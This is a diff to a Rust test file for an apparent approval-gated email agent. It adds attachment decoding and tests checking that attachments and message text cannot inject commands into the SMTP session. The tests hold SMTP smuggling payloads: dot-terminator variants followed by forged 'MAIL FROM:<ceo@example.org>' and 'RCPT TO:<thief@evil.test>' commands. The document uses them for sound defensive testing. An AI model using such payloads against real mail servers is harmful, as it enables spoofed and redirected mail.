@@ -7,6 +7,8 @@ use std::path::{Path, PathBuf};
 use std::process::{Child, ChildStdin, ChildStdout, Command, Stdio};
 use std::sync::OnceLock;
 
+use base64::Engine as _;
+use base64::engine::general_purpose::STANDARD;
 use countersign_delivery::{MailSettings, SmtpMailer, Tls};
 use countersign_domain::approvals::{Choice, Status};
 use countersign_domain::audit::AuditKind;
@@ -276,7 +278,67 @@ fn attachment(mail: &Value) -> String {
     let text = mail["text"].as_str().unwrap().replace("\r\n", "\n");
     let (_, part) = text.split_once("Content-Disposition: attachment").unwrap();
     let (head, rest) = part.split_once("\n\n").unwrap();
-    format!("{head}\n\n{}", rest.split("\n--").next().unwrap().trim_end())
+    let bytes = decoded(rest.split("\n--").next().unwrap());
+    format!("{head}\n\n{}", String::from_utf8(bytes).unwrap())
+}
+
+/// The bytes of a part in base64.
+fn decoded(part: &str) -> Vec<u8> {
+    let letters: String = part.split_whitespace().collect();
+    STANDARD.decode(letters).unwrap()
+}
+
+/// Bytes of every kind, the same each time.
+fn noise(seed: u64, length: usize) -> Vec<u8> {
+    let mut state = seed;
+    let next = || {
+        state =
+            state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
+        state.to_be_bytes()[1]
+    };
+    std::iter::repeat_with(next).take(length).collect()
+}
+
+#[tokio::test]
+async fn no_file_can_speak_to_the_mail_server_and_each_arrives_byte_for_byte() {
+    let mut server = Server::start("plain");
+    let house = House::with().mailer(server.mailer(Tls::None)).open().await;
+    let smuggled = "\r\nMAIL FROM:<ceo@example.org>\r\nRCPT TO:<thief@evil.test>\r\nDATA\r\n\r\nx";
+    let ends = ["\n.\r\n", "\r\n.\n", "\r.\r", "\n.\n", "\r\n.\r", "\r\n.\r\n", "\n\r\n.\r\n"];
+    let mut files: Vec<Vec<u8>> =
+        ends.iter().map(|end| format!("all is well{end}{smuggled}{end}").into_bytes()).collect();
+    files.extend((0..4).map(|seed| noise(seed, 3000)));
+    files.extend([b"a\0\r\n.\n\0".to_vec(), vec![b'x'; 5000], Vec::new()]);
+    for bytes in files {
+        std::fs::write(house.workspace().join("report"), &bytes).unwrap();
+        let run = house.say("email ana@example.org | s | b\nattach report").await;
+        let card = house.pending(run, 1).await.remove(0).card;
+        house.decide(card.approval_id, Choice::Once).await;
+        house.run_when(run, RunStatus::Completed).await;
+        let mail = server.mail();
+        assert_eq!(mail["to"], serde_json::json!(["ana@example.org"]), "{bytes:?}");
+        let text = mail["text"].as_str().unwrap().replace("\r\n", "\n");
+        let (_, part) = text.split_once("Content-Disposition: attachment").unwrap();
+        let part = part.split_once("\n\n").unwrap().1.split("\n--").next().unwrap();
+        assert_eq!(Digest::of(&decoded(part)), card.attachments[0].digest, "{bytes:?}");
+    }
+    assert_eq!(server.rest(), "");
+}
+
+#[tokio::test]
+async fn no_text_can_speak_to_the_mail_server() {
+    let mut server = Server::start("plain");
+    let house = House::with().mailer(server.mailer(Tls::None)).open().await;
+    let long = "ä".repeat(2000);
+    for body in ["a\r.\rMAIL FROM:<ceo@example.org>", long.as_str()] {
+        let (_, said) =
+            send(&house, &format!("email ana@example.org | {} | {body}", "ü ".repeat(90))).await;
+        assert!(said.contains("send_email ok sent: 250"), "{said}");
+        let text = server.mail()["text"].as_str().unwrap().to_owned();
+        assert!(!text.contains("MAIL FROM"), "{text}");
+        assert!(text.split("\r\n").all(|line| line.len() <= 998 && !line.contains(['\r', '\n'])));
+    }
+    assert_eq!(server.rest(), "");
 }
 
 #[tokio::test]
@@ -299,7 +361,7 @@ async fn a_file_leaves_as_the_card_showed_it_whatever_becomes_of_it_meanwhile() 
     house.run_when(run, RunStatus::Completed).await;
     let sent = attachment(&server.mail());
     assert!(sent.contains("filename=\"report.txt\""), "{sent}");
-    assert!(sent.ends_with("\n\nall is well"), "{sent}");
+    assert!(sent.ends_with("\n\nall is well\n"), "{sent}");
     assert_eq!(server.rest(), "");
 }
 
